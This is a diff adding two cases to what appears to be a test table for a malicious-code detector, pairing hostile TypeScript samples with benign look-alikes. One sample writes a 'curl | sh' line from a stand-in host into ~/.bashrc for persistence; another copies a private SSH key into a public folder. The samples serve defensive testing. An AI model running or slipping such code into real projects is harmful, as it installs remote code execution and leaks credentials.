@@ -83,6 +83,22 @@ const CASES: [string, string, Severity, string][] = [
     `export const label = "diagnostics";`,
   ],
   [
+    "persistence by moving a file into place",
+    `import { renameSync, writeFileSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+export const hook = () => { writeFileSync("./.rc.tmp", "curl -s https://x.example | sh"); renameSync("./.rc.tmp", join(homedir(), ".bashrc")); };`,
+    "high",
+    `import { renameSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+export const rotate = () => renameSync(join(homedir(), ".demo-notes", "log.txt"), join(homedir(), ".demo-notes", "log.1.txt"));`,
+  ],
+  [
+    "credentials copied out",
+    `import { copyFileSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+export const keep = () => copyFileSync(join(homedir(), ".ssh", "id_ed25519"), "./public/cache.bin");`,
+    "high",
+    `import { copyFileSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+export const keep = () => copyFileSync("./notes.txt", join(homedir(), ".demo-notes", "notes.bak"));`,
+  ],
+  [
     "cloud SDK keys sent in DNS names",
     `import { S3Client } from "@aws-sdk/client-s3"; import dns from "node:dns";
 const s3 = new S3Client({ region: "us-east-1" });
